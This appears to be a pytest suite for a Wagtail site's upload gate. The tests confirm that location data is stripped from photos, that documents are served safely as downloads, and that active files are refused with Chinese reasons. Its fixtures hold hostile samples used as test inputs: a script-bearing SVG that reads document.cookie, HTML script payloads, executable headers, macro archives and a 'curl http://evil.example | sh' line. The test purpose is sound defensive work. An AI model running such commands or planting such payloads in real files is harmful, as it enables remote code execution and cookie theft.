"""Every upload through one gate (sitegroup.services.uploads): editors' images and documents in the
Wagtail library are checked by content, photos are stored without their location, documents that are
not PDF are served as downloads, and active content is refused with a Chinese reason."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from PIL import Image as PILImage
from wagtail.documents.models import Document
from wagtail.images.models import Image

from sitegroup.lib import file_types
from sitegroup.services.uploads import RefusedFile, check_upload
from tests.sitegroup.lib.test_image_metadata import GPS_IFD, photo


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


DOCM = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<d/>", "word/vbaProject.bin": b"VBA"})
XLSM = _zip({"[Content_Types].xml": b"macroEnabled", "xl/workbook.xml": b"<w/>", "xl/vbaProject.bin": b"VBA"})
SVG_WITH_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 60
PE = b"MZ\x90\x00\x03" + b"\0" * 60
SHELL = b"#!/bin/bash\ncurl http://evil.example | sh\n"


class TestCheckUpload:
    def test_photo_in_memory_is_stripped_in_place(self):
        upload = SimpleUploadedFile("现场.jpg", photo(), content_type="image/jpeg")
        assert check_upload(upload, allowed=file_types.IMAGES, max_bytes=1 << 20) == file_types.JPEG
        stored = PILImage.open(io.BytesIO(upload.read()))
        assert not stored.getexif().get_ifd(GPS_IFD) and stored.size == (20, 40)
        assert upload.size == len(upload.open().read())

    def test_photo_in_a_temporary_file_is_stripped_on_disk(self):
        upload = TemporaryUploadedFile("现场.jpg", "image/jpeg", 0, None)
        upload.write(photo())
        upload.seek(0)
        check_upload(upload, allowed=file_types.IMAGES, max_bytes=1 << 20)
        with open(upload.temporary_file_path(), "rb") as on_disk:
            assert not PILImage.open(on_disk).getexif()
        upload.close()

    @pytest.mark.parametrize(
        ("name", "data"),
        [("图.svg", SVG_WITH_SCRIPT), ("图.png", SVG_WITH_SCRIPT), ("说明.pdf", HTML), ("a.doc", ELF), ("a.pdf", PE)],
    )
    def test_active_content_is_refused_whatever_its_name(self, name, data):
        with pytest.raises(RefusedFile, match="不能上传"):
            check_upload(SimpleUploadedFile(name, data), allowed=file_types.PUBLISHED_DOCUMENTS, max_bytes=1 << 20)

    def test_broken_image_is_refused(self):
        with pytest.raises(RefusedFile, match="已损坏"):
            check_upload(
                SimpleUploadedFile("a.jpg", b"\xff\xd8\xff\xe0broken"), allowed=file_types.IMAGES, max_bytes=1 << 20
            )


@pytest.mark.django_db
class TestWagtailLibrary:
    def _post_image(self, client, site_group, name, data):
        client.force_login(site_group["users"]["a_editor"])
        return client.post(
            "/admin/images/add/",
            {"title": "现场照片", "file": SimpleUploadedFile(name, data), "collection": site_group["a"].collection.pk},
        )

    def test_uploaded_photo_is_stored_without_its_location(self, client, site_group):
        self._post_image(client, site_group, "现场.jpg", photo())
        image = Image.objects.get(title="现场照片")
        with image.file.open("rb") as stored:
            data = stored.read()
        assert not PILImage.open(io.BytesIO(data)).getexif().get_ifd(GPS_IFD)
        assert (image.width, image.height) == (20, 40)

    def test_svg_with_script_named_png_is_refused(self, client, site_group):
        response = self._post_image(client, site_group, "logo.png", SVG_WITH_SCRIPT)
        assert response.status_code == 200 and "error-message" in response.content.decode()
        assert not Image.objects.filter(title="现场照片").exists()

    @pytest.mark.parametrize(
        ("name", "data", "reason"),
        [
            ("通知.docm", DOCM, "含有宏"),
            ("报表.xlsx", XLSM, "含有宏"),
            ("通知.pdf", HTML, "不接受网页"),
            ("图.txt", SVG_WITH_SCRIPT, "不接受网页"),
            ("工具.zip", ELF, "可执行程序"),
            ("安装.doc", PE, "可执行程序"),
            ("脚本.txt", SHELL, "脚本"),
        ],
    )
    def test_active_documents_are_refused_with_a_reason(self, client, site_group, name, data, reason):
        client.force_login(site_group["users"]["a_editor"])
        response = client.post(
            "/admin/documents/add/",
            {"title": "有害文件", "file": SimpleUploadedFile(name, data), "collection": site_group["a"].collection.pk},
        )
        assert reason in response.content.decode()
        assert not Document.objects.filter(title="有害文件").exists()

    def _document(self, site_group, name, data) -> Document:
        document = Document(title=name, collection=site_group["a"].collection)
        document.file.save(name, io.BytesIO(data), save=False)
        document.save()
        return document

    def test_word_document_is_a_download_that_is_never_sniffed(self, client, site_group):
        docx = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
        document = self._document(site_group, "通知.docx", docx)
        response = client.get(document.url)
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment")
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"] == "default-src 'none'"

    def test_text_document_is_a_download_too(self, client, site_group):
        response = client.get(self._document(site_group, "说明.txt", b"<script>alert(1)</script>").url)
        assert response["Content-Disposition"].startswith("attachment")

    def test_pdf_opens_in_the_browser(self, client, site_group):
        response = client.get(self._document(site_group, "方案.pdf", b"%PDF-1.4\n%%EOF\n").url)
        assert response["Content-Disposition"].startswith("inline")
        assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
def test_a_profile_picture_is_stored_without_its_location(site_group):
    from wagtail.users.models import UserProfile

    assert PILImage.open(io.BytesIO(photo())).getexif().get_ifd(GPS_IFD)  # the phone's photo has a location
    profile = UserProfile.get_for_user(site_group["users"]["a_editor"])
    profile.avatar = SimpleUploadedFile("头像.jpg", photo(), content_type="image/jpeg")
    profile.save()
    with profile.avatar.open("rb") as stored:
        picture = PILImage.open(io.BytesIO(stored.read()))
    assert not picture.getexif().get_ifd(GPS_IFD) and picture.size == (20, 40)
